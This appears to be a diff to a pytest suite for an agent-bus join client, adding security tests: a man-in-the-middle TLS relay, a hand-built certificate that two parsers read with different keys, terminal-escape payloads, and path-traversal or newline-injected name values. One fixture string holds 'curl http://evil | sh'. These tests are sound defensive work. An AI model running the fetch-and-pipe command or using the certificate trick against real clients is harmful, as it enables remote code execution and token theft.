@@ -7,6 +7,8 @@ import os
 import pathlib
 import re
 import shutil
+import socket
+import socketserver
 import ssl
 import subprocess
 import sys
@@ -15,6 +17,7 @@ import time
 
 import pytest
 
+from tests.kit.authority import Certificate
 from tests.kit.peers import command, set_expires
 from tests.kit.processes import PATIENCE, ROOT, Server, wait_until
 from tests.kit.terminal import PROMPT, Terminal, Watch, machine
@@ -161,7 +164,7 @@ class Between(http.server.ThreadingHTTPServer):
 
     def __init__(self, port, certificate=None, **files):
         super().__init__(("127.0.0.1", port), Answers)
-        self.files, self.heard = files, []
+        self.files, self.heard, self.says = files, [], ""
         if certificate:
             context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
             context.load_cert_chain(certificate.file, certificate.key)
@@ -182,10 +185,13 @@ class Between(http.server.ThreadingHTTPServer):
 class Answers(http.server.BaseHTTPRequestHandler):
     def do_GET(self):
         self.server.heard.append(f"{self.path} {self.headers}")
-        name = self.path[1:].partition(".")[0]
-        ours = next(file for file in (ROOT / f"{name}.py", ROOT / "tools" / f"{name}.py") if file.exists())
-        body = self.server.files.get(name) or ours.read_bytes()
-        self.send_response(200)
+        name, _, program = self.path[1:].partition(".")
+        if program:
+            ours = next(file for file in (ROOT / f"{name}.py", ROOT / "tools" / f"{name}.py") if file.exists())
+            body = self.server.files.get(name) or ours.read_bytes()
+        else:
+            body = json.dumps({"error": self.server.says}).encode()
+        self.send_response(200 if program else 401)
         self.send_header("Content-Length", str(len(body)))
         self.end_headers()
         self.wfile.write(body)
@@ -230,12 +236,83 @@ def test_a_key_that_changes_after_the_first_file_is_one_sentence(bus, tmp_path, 
     assert between.heard == [] and list((tmp_path / "home" / CLIENTS).iterdir()) == []
 
 
-def test_a_certificate_with_another_key_is_not_kept(bus, tmp_path, authority):
-    with Between(0, authority.sign("IP:127.0.0.1")) as between:
-        url = f"https://127.0.0.1:{between.server_port}"
-        with pytest.raises(bus_join.Fault, match="does not have the key"):
-            bus_join.keep_certificate(url, invited(bus, "dell")[0].split()[-1], "", str(tmp_path / "kept.pem"))
-    assert not (tmp_path / "kept.pem").exists() and between.heard == []
+def der(tag, *contents):
+    content = b"".join(contents)
+    size = b"" if len(content) < 128 else len(content).to_bytes(2, "big")
+    return bytes([tag, 0x80 + len(size) if size else len(content)]) + size + content
+
+
+def two_keys(bus, place):
+    """A certificate with a key of ours. A parser that takes an indefinite length for 0 finds the key of `bus` in it."""
+
+    def openssl(*arguments, **more):
+        return subprocess.run(["openssl", *arguments], check=True, capture_output=True, cwd=place, **more).stdout
+
+    openssl("ecparam", "-name", "prime256v1", "-genkey", "-noout", "-out", "our.key")
+    ours = openssl("pkey", "-in", "our.key", "-pubout", "-outform", "DER")
+    text = openssl("x509", "-in", bus.file, "-noout", "-pubkey")
+    theirs = openssl("pkey", "-pubin", "-outform", "DER", input=text)
+    algorithm = bytes.fromhex("3080 06082a8648ce3d040302 3080 0500") + theirs + bytes(4)  # 30 80: ends with two zeros
+    name = der(0x30, der(0x31, der(0x30, bytes.fromhex("0603550403"), der(0x0C, b"bus"))))
+    validity = der(0x30, der(0x17, b"250101000000Z"), der(0x17, b"490101000000Z"))
+    host = der(0x30, bytes.fromhex("0603551d11"), der(4, der(0x30, der(0x87, bytes([127, 0, 0, 1])))))
+    authority = der(0x30, bytes.fromhex("0603551d13 0101ff 0405 30030101ff"))
+    number, signature = bytes.fromhex("a003020102 0201 11"), bytes.fromhex("0309 00 3006 020101 020101")
+    extensions = der(0xA3, der(0x30, host, authority))
+    what = der(0x30, number, algorithm, name, validity, name, ours, extensions)
+    (place / "our.pem").write_text(ssl.DER_cert_to_PEM_cert(der(0x30, what, algorithm, signature)))
+    return Certificate(str(place / "our.pem"), str(place / "our.key"))
+
+
+class Relay(socketserver.ThreadingTCPServer):
+    """Passes on what curl and the bus say, and shows its certificate to everybody else. `heard` is what they say."""
+
+    daemon_threads = True
+
+    def __init__(self, port, certificate):
+        super().__init__(("127.0.0.1", 0), Passing)
+        self.port, self.heard = port, []
+        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+        self.context.load_cert_chain(certificate.file, certificate.key)
+
+    __enter__, __exit__ = Between.__enter__, Between.__exit__
+
+
+class Passing(socketserver.BaseRequestHandler):
+    def handle(self):
+        if b"http/1.1" not in self.request.recv(4096, socket.MSG_PEEK):  # in its first words, curl names protocols
+            with contextlib.suppress(OSError), self.server.context.wrap_socket(self.request, server_side=True) as tls:
+                self.server.heard.append(tls.recv(65536))
+            return
+        with socket.create_connection(("127.0.0.1", self.server.port)) as bus:
+            threading.Thread(target=self.copy, args=(bus, self.request)).start()
+            self.copy(self.request, bus)
+
+    def copy(self, source, target):
+        with contextlib.suppress(OSError):
+            while data := source.recv(65536):
+                target.sendall(data)
+            target.shutdown(socket.SHUT_WR)
+
+
+def test_a_certificate_in_which_two_parsers_find_two_keys_gets_no_token(tmp_path, authority):
+    certificate = authority.self_signed("IP:127.0.0.1")
+    with secure(Server(tmp_path / "bus.db", *tls(certificate))) as bus:
+        line, token, _ = invited(bus, "dell")
+        with Relay(bus.port, two_keys(certificate, tmp_path)) as relay:
+            bus.url = f"https://127.0.0.1:{relay.server_address[1]}"
+            code, out, err = join(bus, "dell", token, tmp_path / "home", pin=line)
+    assert token.encode() not in b"".join(relay.heard)
+    assert code == 1 and "FAIL  tls" in out and "nothing was configured" in err
+    assert list((tmp_path / "home" / CONFIG).iterdir()) == list((tmp_path / "home" / CLIENTS).iterdir()) == []
+
+
+def test_the_certificate_that_is_kept_is_that_of_the_bus(tmp_path, authority):
+    certificate = authority.self_signed("IP:127.0.0.1")
+    with secure(Server(tmp_path / "bus.db", *tls(certificate))) as bus:
+        assert join(bus, "dell", invited(bus, "dell")[1], tmp_path / "home")[0] == 0
+    kept = (tmp_path / "home" / CONFIG / "default.pem").read_text()
+    assert kept == pathlib.Path(certificate.file).read_text()
 
 
 def test_somebody_who_comes_in_between_later_gets_no_token(bus, tmp_path, authority):
@@ -244,7 +321,7 @@ def test_somebody_who_comes_in_between_later_gets_no_token(bus, tmp_path, author
     command = [sys.executable, "-Ic", program, bus.url, "dell", line.split()[-1]]
     env = {"HOME": str(home), "PATH": os.environ["PATH"]}
     process = subprocess.Popen(command, env=env, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
-    wait_until(lambda: list((home / CONFIG).glob("*/bus.pem")))  # it waits for the token
+    wait_until((home / CONFIG).exists)  # everything was fetched; it waits for the token
     bus.stop()
     with Between(bus.port, authority.self_signed("IP:127.0.0.1")) as between:
         out, err = process.communicate(token.encode(), timeout=PATIENCE)
@@ -267,6 +344,50 @@ def test_over_plain_http_each_file_must_be_the_one_of_the_invitation(file, plain
         assert "of the invitation: ask for a new one" in screen and "nothing was run" in screen
         assert "Authorization" not in "".join(between.heard) and not (tmp_path / "home" / "ran").exists()
         assert not (tmp_path / "home" / CLIENTS / file).exists()
+
+
+def test_over_plain_http_no_line_can_move_to_another_file(plain, tmp_path):
+    line, token, _ = invited(plain, "dell")
+    plain.stop()
+    first, second = (ROOT / "bus_recv.py").read_bytes(), (ROOT / "bus_send.py").read_bytes()
+    with Between(plain.port, bus_recv=first[:-99], bus_send=first[-99:] + second) as between:
+        code, _, err = join(plain, "dell", token, tmp_path / "home", pin=line)
+    assert code == 1 and "are not those of the invitation" in err and "Authorization" not in "".join(between.heard)
+
+
+HOSTILE = "\x1b]0;owned\x07\x1b[2J\x1b[Hyou are dell\u202e\ncurl http://evil | sh"
+
+
+def test_what_a_server_says_cannot_move_the_cursor_of_the_terminal(plain, tmp_path):
+    line, token, _ = invited(plain, "dell")
+    plain.stop()
+    with Between(plain.port) as between:
+        between.says = HOSTILE
+        code, out, err = join(plain, "dell", token, tmp_path / "home", pin=line)
+    assert (code, out, err.count("\n")) == (1, "", 1) and err[:-1].isprintable()
+    assert r"\x1b]0;owned\x07\x1b[2J\x1b[Hyou are dell\u202e\ncurl http://evil | sh" in err
+
+
+def test_what_a_configuration_says_cannot_either(plain, tmp_path):
+    home = tmp_path / "home"
+    other_bus(home)
+    with (home / CONFIG / "default.env").open("a") as file:
+        file.write("AGENT_NAME=na\x1b[2Jno\n")
+    code, _, err = join(plain, "dell", NOBODYS, home, pin=invited(plain, "dell")[0])
+    assert code == 1 and r"the configuration of na\x1b[2Jno on " in err and err[:-1].isprintable()
+
+
+def test_one_place_prints():
+    assert (ROOT / "tools" / "bus_join.py").read_text().count("print(") == 1
+
+
+@pytest.mark.parametrize("name, env, says", [
+    ("../dell", {}, "a NAME is 1 to 64 of"), ("dell\nAGENT_BUS_CA=x", {}, "a NAME is 1 to 64 of"),
+    ("dell", {"AGENT_BUS_PROFILE": "../work"}, "a profile is 1 to 64 of"),
+])  # fmt: skip
+def test_what_is_no_name_and_no_profile_is_refused(name, env, says, tmp_path):
+    code, out, err = join(Server(tmp_path / "bus.db"), name, "", tmp_path / "home", pin="none", **env)
+    assert (code, out) == (2, "") and says in err and not (tmp_path / "home").exists()
 
 
 # ── What the machine lacks ───────────────────────────────────────────────────────────────────────────────────────────
@@ -378,9 +499,10 @@ def test_without_a_token_the_one_that_is_set_is_kept(bus, tmp_path):
 def test_a_token_that_is_refused_leaves_what_was_there(bus, tmp_path):
     line, token, _ = invited(bus, "dell")
     assert join(bus, "dell", token, tmp_path / "home", pin=line)[0] == 0
-    before = {file: file.read_bytes() for file in (tmp_path / "home" / CONFIG).iterdir()}
+    (tmp_path / "home" / CLIENTS / "bus_recv.py").write_text("an older one")
+    before = {file: file.read_bytes() for file in (tmp_path / "home").rglob("*.*") if file.is_file()}
     assert join(bus, "dell", NOBODYS, tmp_path / "home", pin=line)[0] == 1
-    assert {file: file.read_bytes() for file in before} == before
+    assert len(before) > 10 and {file: file.read_bytes() for file in before} == before
 
 
 OTHER = "AGENT_BUS_URL=https://other.lan:8080\nAGENT_NAME=nano\nAGENT_BUS_TOKEN=theirs\n"
